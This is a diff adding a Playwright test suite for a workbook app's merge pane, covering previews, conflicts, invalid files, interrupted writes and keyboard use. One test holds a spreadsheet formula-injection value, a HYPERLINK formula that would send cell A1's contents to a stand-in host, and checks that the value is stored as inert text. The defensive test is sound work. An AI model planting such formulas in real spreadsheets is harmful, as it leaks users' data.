@@ -1,0 +1,107 @@
+import type { Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import type { TableData } from '../../../src/workbook/port.ts';
+import { tabTo } from '../access-checks.ts';
+import { column, heading, tables, usePane } from '../pane-steps.ts';
+import { rowsOf, withRows } from '../small-workshop.ts';
+import { chooseCopy, otherCopy, toMerge } from './merge-walk.ts';
+import { soundWorkshop } from './sound-workshop.ts';
+
+const openPane = usePane();
+
+async function openMerge(start: readonly TableData[] = soundWorkshop): Promise<Page> {
+  const page = await openPane({ tables: start });
+  await toMerge(page);
+  return page;
+}
+
+const preview = (page: Page) => page.locator('pour-merge-preview');
+
+describe('bringing another copy in', () => {
+  it('shows what is added and what differs, then writes all of it once', async () => {
+    const page = await openMerge();
+    await chooseCopy(page, otherCopy);
+    await preview(page).getByRole('row', { name: 'Lots L-9 1' }).waitFor();
+    await preview(page).getByRole('row', { name: 'Moves W-1, W-2 2' }).waitFor();
+    await preview(page).getByRole('row', { name: 'Pack price 9 8' }).waitFor();
+    await preview(page).getByText('The recipe of Pearl differs in the two copies').waitFor();
+    expect(await tables(page)).toEqual(soundWorkshop);
+    await page.getByLabel('Keep the other').check();
+    await page.locator('#record').click();
+    await heading(page).getByText('Brought in').waitFor();
+    expect(await column(page, 'Moves', 'Entry')).toEqual(['W-1', 'W-2']);
+    expect((await column(page, 'Materials', 'Pack price'))[0]).toBe(8);
+    expect(await page.evaluate(() => window.pane.port.written.length)).toBe(1);
+    await page.locator('#another').click();
+    await chooseCopy(page, otherCopy);
+    await preview(page).getByText('This workbook holds all that the other copy has.').waitFor();
+    expect(await page.locator('#record').count()).toBe(0);
+  });
+
+  it('leads to the check afterwards', async () => {
+    const page = await openMerge();
+    await chooseCopy(page, otherCopy);
+    await page.locator('#record').click();
+    await page.locator('#check').click();
+    await page.locator('pour-check').waitFor();
+    await page.getByText('Looked at 2 moves').waitFor();
+  });
+
+  it('writes a note that looks like a formula as the text it is', async () => {
+    const page = await openMerge();
+    const note = '=HYPERLINK("http://example.invalid/?"&A1,"Invoice")';
+    await chooseCopy(
+      page,
+      withRows(otherCopy, 'Moves', (rows) => rows.map((row) => row.with(9, note))),
+    );
+    await page.locator('#record').click();
+    await page.locator('pour-merge-done').waitFor();
+    expect(await column(page, 'Moves', 'Note')).toEqual([note, note]);
+  });
+
+  it('writes nothing where the two together make no book, and says why', async () => {
+    const page = await openMerge();
+    await chooseCopy(
+      page,
+      withRows(otherCopy, 'Moves', () => rowsOf(['W-1|2026-11-03|wasted|Moonshine|-1|||||'])),
+    );
+    await preview(page).getByText("can't be read as one book").waitFor();
+    await preview(page).getByText('"Moonshine"').waitFor();
+    expect(await page.locator('#record').count()).toBe(0);
+  });
+
+  it('says what a file is that is no workbook, and lets another be chosen', async () => {
+    const page = await openMerge();
+    await page
+      .locator('#copy')
+      .setInputFiles({ name: 'x.xlsx', mimeType: '', buffer: Buffer.from('no') });
+    await page.getByText('This is not an .xlsx workbook.').waitFor();
+    await chooseCopy(page, otherCopy);
+    await preview(page).getByText('From other.xlsx').waitFor();
+  });
+
+  it('finishes what broke off halfway, without the file', async () => {
+    const page = await openMerge();
+    await chooseCopy(page, otherCopy);
+    await page.evaluate(() => {
+      window.pane.port.nextApply({ kind: 'breaks halfway', rows: 1 });
+    });
+    await page.locator('#record').click();
+    await page.getByText('Recording of other.xlsx broke off').waitFor();
+    await page.reload();
+    await page.locator('#tab-merge').click();
+    await page.getByText('Recording of other.xlsx broke off').waitFor();
+    await page.locator('#record').click();
+    await page.locator('pour-merge-done').waitFor();
+    expect(await column(page, 'Moves', 'Entry')).toEqual(['W-1', 'W-2']);
+    expect((await column(page, 'Lots', 'Lot')).at(-1)).toBe('L-9');
+  });
+
+  it('can be done with the keyboard alone once the file is chosen', async () => {
+    const page = await openMerge();
+    await chooseCopy(page, otherCopy);
+    await tabTo(page, 'record');
+    await page.keyboard.press('Enter');
+    await page.locator('pour-merge-done').waitFor();
+  });
+});
